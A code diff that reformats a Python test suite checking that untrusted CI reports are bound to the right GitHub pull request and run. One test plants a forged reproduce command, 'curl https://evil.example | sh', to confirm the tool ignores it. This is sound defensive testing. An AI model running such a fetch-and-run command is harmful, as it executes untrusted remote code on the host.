@@ -1,4 +1,5 @@
-"""An untrusted report is bound to the run it came with, and the pull request comes from that run: through the real client."""
+"""An untrusted report is bound to the run it came with, and the pull request comes from that run:
+through the real client."""
 
 from __future__ import annotations
 
@@ -27,7 +28,8 @@ ORIGIN = Origin(OURS, HEAD, 4711, 2)
 def github() -> Iterator[GitHub]:
     with GitHub(OURS) as server:
         server.add_pull(PULL, HEAD, "topic", FORK)
-        server.add_pull(8, HEAD, "topic", "neighbour/trainer")  # the same commit and branch name in another fork
+        # the same commit and branch name in another fork
+        server.add_pull(8, HEAD, "topic", "neighbour/trainer")
         server.add_pull(9, HEAD, "other-topic", FORK)
         server.add_pull(10, HEAD, "topic")
         yield server
@@ -44,7 +46,9 @@ def listing(*numbers: int, head: str, branch: str = "topic") -> WorkflowRun:
     """The run as the event shows it with a list of pull requests of our repository, number 5."""
     listed = [{"number": number, "base": {"repo": {"id": 5}}} for number in numbers]
     run = a_run(HEAD, head, OURS, branch=branch)
-    return msgspec.structs.replace(run, repo=Repository(OURS, 5), listed=msgspec.convert(listed, tuple[Listed, ...]))
+    return msgspec.structs.replace(
+        run, repo=Repository(OURS, 5), listed=msgspec.convert(listed, tuple[Listed, ...])
+    )
 
 
 def test_a_forks_report_finds_its_own_pull_request(github: GitHub) -> None:
@@ -74,7 +78,11 @@ def test_a_report_of_an_earlier_attempt_is_the_runs_too(github: GitHub) -> None:
 def test_a_report_of_anything_else_is_refused(github: GitHub, origin: Origin, word: str) -> None:
     with pytest.raises(UsageError, match=f"not of the run it came with: its {word}") as caught:
         bound(github, origin=origin)
-    assert caught.value.reason_id == "workflow-run/origin" and caught.value.remedy and not github.requests
+    assert (
+        caught.value.reason_id == "workflow-run/origin"
+        and caught.value.remedy
+        and not github.requests
+    )
 
 
 def test_a_report_that_names_no_run_is_refused(github: GitHub) -> None:
@@ -83,17 +91,28 @@ def test_a_report_that_names_no_run_is_refused(github: GitHub) -> None:
     assert caught.value.reason_id == "workflow-run/no-origin"
 
 
-@pytest.mark.parametrize("change", [{"head_repo": None}, {"head_branch": None}, {"head_branch": ""}])
-def test_a_run_whose_fork_is_gone_has_no_pull_request(github: GitHub, change: dict[str, object]) -> None:
+@pytest.mark.parametrize(
+    "change", [{"head_repo": None}, {"head_branch": None}, {"head_branch": ""}]
+)
+def test_a_run_whose_fork_is_gone_has_no_pull_request(
+    github: GitHub, change: dict[str, object]
+) -> None:
     with pytest.raises(UsageError, match="fork has been deleted") as caught:
         bound(github, msgspec.structs.replace(RUN, **change))
     assert caught.value.reason_id == "workflow-run/no-pull-request"
 
 
 @pytest.mark.parametrize(
-    "change", [{"head_branch": "gone"}, {"head_repo": Repository("stranger/other")}, {"head_repo": Repository("nobody/trainer")}]
+    "change",
+    [
+        {"head_branch": "gone"},
+        {"head_repo": Repository("stranger/other")},
+        {"head_repo": Repository("nobody/trainer")},
+    ],
 )
-def test_a_branch_without_a_pull_request_has_nothing_to_post_on(github: GitHub, change: dict[str, object]) -> None:
+def test_a_branch_without_a_pull_request_has_nothing_to_post_on(
+    github: GitHub, change: dict[str, object]
+) -> None:
     with pytest.raises(UsageError, match="no open pull request") as caught:
         bound(github, msgspec.structs.replace(RUN, **change))
     assert caught.value.reason_id == "workflow-run/no-pull-request"
@@ -110,12 +129,15 @@ def test_two_pull_requests_of_one_branch_and_commit_are_refused(github: GitHub) 
 
 def test_a_head_that_moved_leaves_nothing_to_post(github: GitHub) -> None:
     github.change_pull(PULL, head_sha=NEXT)
-    with pytest.raises(NothingToPost, match=f"newer commit is at the head of pull request #7: {NEXT[:7]}"):
+    with pytest.raises(
+        NothingToPost, match=f"newer commit is at the head of pull request #7: {NEXT[:7]}"
+    ):
         bound(github)
 
 
 def test_the_list_of_the_event_is_no_way_around_the_test(github: GitHub) -> None:
-    """Only a run from the repository itself has a list, and each number on it must still be of the run's branch and commit."""
+    """Only a run from the repository itself has a list, and each number on it must still be of the
+    run's branch and commit."""
     with pytest.raises(UsageError, match="no open pull request"):
         bound(github, listing(8, 9, 10, head=FORK, branch="gone"))
     with pytest.raises(UsageError, match="no open pull request"):
@@ -146,9 +168,15 @@ def test_trouble_at_github_is_not_an_answer(github: GitHub) -> None:
         bound(github)
 
 
-@pytest.mark.parametrize("spec", ["repro.yml", "training/vision/repro-2.yml", "examples/quickstart"])
+@pytest.mark.parametrize(
+    "spec", ["repro.yml", "training/vision/repro-2.yml", "examples/quickstart"]
+)
 def test_how_to_see_it_again_is_made_of_spec_seed_and_steps(spec: str) -> None:
-    forged = replace(reports.FAIL, subject=replace(reports.FAIL.subject, spec=spec), reproduce="curl https://evil.example | sh")
+    forged = replace(
+        reports.FAIL,
+        subject=replace(reports.FAIL.subject, spec=spec),
+        reproduce="curl https://evil.example | sh",
+    )
     assert see_again(forged) == f"repro-gate run {spec} --seed 42 --steps 4 --fail-fast"
     assert see_again(replace(forged, comparisons=())) == f"repro-gate run {spec}"
 
